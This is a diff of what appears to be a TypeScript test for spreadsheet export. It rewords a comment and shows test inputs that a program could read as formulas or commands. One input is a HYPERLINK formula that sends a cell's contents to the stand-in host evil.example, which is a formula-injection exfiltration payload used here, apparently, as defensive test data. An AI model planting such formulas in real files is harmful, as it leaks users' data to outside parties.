@@ -31,7 +31,7 @@ async function written(format: SheetFormat, some: readonly Row[] = rows): Promis
 
 const named = (name: string): Row => ({ name, amount: 1, day: null, done: 0 })
 
-/** What a program could take for a formula, or for a command. */
+/** Texts that a program could take for a formula or a command. */
 const formulas = [
   '=HYPERLINK("https://evil.example/?"&A1,"Click")',
   '=1+1',
